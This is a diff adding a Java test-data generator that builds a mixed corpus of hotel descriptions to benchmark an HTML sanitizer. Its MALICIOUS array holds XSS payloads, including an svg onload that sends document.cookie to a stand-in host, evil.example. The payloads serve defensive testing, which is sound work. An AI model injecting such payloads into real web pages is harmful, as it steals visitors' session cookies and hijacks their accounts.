@@ -0,0 +1,160 @@
+/*
+ *   MIT License
+ *
+ *  Copyright (c) 2026 cleanet
+ *
+ *  Permission is hereby granted, free of charge, to any person obtaining a copy
+ *  of this software and associated documentation files (the "Software"), to deal
+ *  in the Software without restriction, including without limitation the rights
+ *  to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+ *  copies of the Software, and to permit persons to whom the Software is
+ *  furnished to do so, subject to the following conditions:
+ *
+ *  The above copyright notice and this permission notice shall be included in all
+ *  copies or substantial portions of the Software.
+ *
+ *  THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+ *  IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+ *  FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+ *  AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+ *  LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+ *  OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+ *  SOFTWARE.
+ */
+package com.myenterprise.rest.annotation.sanitizehtml;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+
+/**
+ * Generates a varied corpus of field values for the sanitizer benchmarks.
+ *
+ * <p>Unlike {@link JsonGenerator}, which clones a single template and therefore
+ * only measures the cache-hit path on one string, this generator controls:</p>
+ * <ul>
+ *   <li>The ratio of plain text, benign rich-text HTML and malicious payloads.</li>
+ *   <li>The uniqueness rate: the fraction of values that appear only once in the
+ *       corpus. The remaining values are drawn from a small pool of popular
+ *       values, as happens with real catalogue traffic.</li>
+ * </ul>
+ *
+ * <p>The generation is deterministic for a given seed, so benchmark runs are
+ * comparable.</p>
+ */
+public final class SanitizerCorpusGenerator {
+
+    /** Number of distinct popular values that repeated entries are drawn from. */
+    private static final int POPULAR_POOL_SIZE = 64;
+
+    private static final String[] PLAIN_TEXT = {
+            "Hotel Continental, a classic hotel in the city centre",
+            "Rooms with air conditioning, minibar and safe. Rating > 4 in all the guides",
+            "Breakfast included from 7:00 to 10:30, late check-out on request",
+            "Quiet area, 5 minutes from the train station & the old town",
+            "Pets allowed (max. 10 kg), parking available for 20 EUR/day"
+    };
+
+    private static final String[] BENIGN_HTML = {
+            "<p><strong>%s</strong> is located in the historic centre.</p>",
+            "<ul><li>%s</li><li>Rooftop swimming pool</li><li>Free Wi-Fi</li></ul>",
+            "<p>Read the <a href=\"https://www.myenterprise.com/hotels\" target=\"_blank\">reviews</a> of %s.</p>",
+            "<table><tr><th>Room</th><th>Price</th></tr><tr><td>%s</td><td>120</td></tr></table>",
+            "<h2>%s</h2><p style=\"text-align:center\"><em>Best rated</em> hotel of the year</p>"
+    };
+
+    private static final String[] MALICIOUS = {
+            "<p>%s</p><script>alert('xss')</script>",
+            "<img src=\"x\" onerror=\"alert(document.cookie)\">%s",
+            "<a href=\"javascript:alert(1)\">%s</a>",
+            "<iframe src=\"https://evil.example\"></iframe><p>%s</p>",
+            "<svg onload=\"fetch('https://evil.example?c='+document.cookie)\"></svg>%s",
+            "<div style=\"background:url(javascript:alert(1))\">%s</div><form action=\"https://evil.example\"><input></form>"
+    };
+
+    private final double plainRatio;
+    private final double benignHtmlRatio;
+    private final double uniquenessRate;
+    private final long seed;
+
+    /**
+     * Creates a generator.
+     *
+     * @param plainRatio      fraction of plain-text values
+     * @param benignHtmlRatio fraction of benign HTML values
+     * @param maliciousRatio  fraction of malicious payloads
+     * @param uniquenessRate  fraction of values that appear only once, between 0 and 1
+     * @param seed            seed of the random generator
+     */
+    public SanitizerCorpusGenerator(double plainRatio, double benignHtmlRatio, double maliciousRatio,
+                                    double uniquenessRate, long seed) {
+        double total = plainRatio + benignHtmlRatio + maliciousRatio;
+        if (total <= 0 || plainRatio < 0 || benignHtmlRatio < 0 || maliciousRatio < 0) {
+            throw new IllegalArgumentException("The ratios must be non-negative and not all zero");
+        }
+        if (uniquenessRate < 0 || uniquenessRate > 1) {
+            throw new IllegalArgumentException("The uniqueness rate must be between 0 and 1");
+        }
+        this.plainRatio = plainRatio / total;
+        this.benignHtmlRatio = benignHtmlRatio / total;
+        this.uniquenessRate = uniquenessRate;
+        this.seed = seed;
+    }
+
+    /**
+     * Creates a generator from a mix expressed as {@code "plain/benign/malicious"}
+     * percentages, for example {@code "70/25/5"}.
+     *
+     * @param mix            the ratios of plain text, benign HTML and malicious payloads
+     * @param uniquenessRate fraction of values that appear only once
+     * @param seed           seed of the random generator
+     * @return the generator
+     */
+    public static SanitizerCorpusGenerator fromMix(String mix, double uniquenessRate, long seed) {
+        String[] parts = mix.split("/");
+        if (parts.length != 3) {
+            throw new IllegalArgumentException("The mix must have the form plain/benign/malicious: " + mix);
+        }
+        return new SanitizerCorpusGenerator(Double.parseDouble(parts[0]), Double.parseDouble(parts[1]),
+                Double.parseDouble(parts[2]), uniquenessRate, seed);
+    }
+
+    /**
+     * Generates {@code count} values.
+     *
+     * @param count the number of values to generate
+     * @return the corpus, in generation order
+     */
+    public List<String> generate(int count) {
+        Random random = new Random(seed);
+        List<String> popular = new ArrayList<>(POPULAR_POOL_SIZE);
+        for (int index = 0; index < POPULAR_POOL_SIZE; index++) {
+            popular.add(value(random, "Popular hotel " + index));
+        }
+
+        List<String> corpus = new ArrayList<>(count);
+        for (int index = 0; index < count; index++) {
+            if (random.nextDouble() < uniquenessRate) {
+                corpus.add(value(random, "Hotel " + seed + "-" + index));
+            } else {
+                corpus.add(popular.get(random.nextInt(POPULAR_POOL_SIZE)));
+            }
+        }
+        return corpus;
+    }
+
+    /**
+     * Builds one value of a random kind, embedding {@code name} so that values built
+     * with distinct names are distinct.
+     */
+    private String value(Random random, String name) {
+        double kind = random.nextDouble();
+        if (kind < plainRatio) {
+            return PLAIN_TEXT[random.nextInt(PLAIN_TEXT.length)] + " - " + name;
+        }
+        if (kind < plainRatio + benignHtmlRatio) {
+            return BENIGN_HTML[random.nextInt(BENIGN_HTML.length)].formatted(name);
+        }
+        return MALICIOUS[random.nextInt(MALICIOUS.length)].formatted(name);
+    }
+}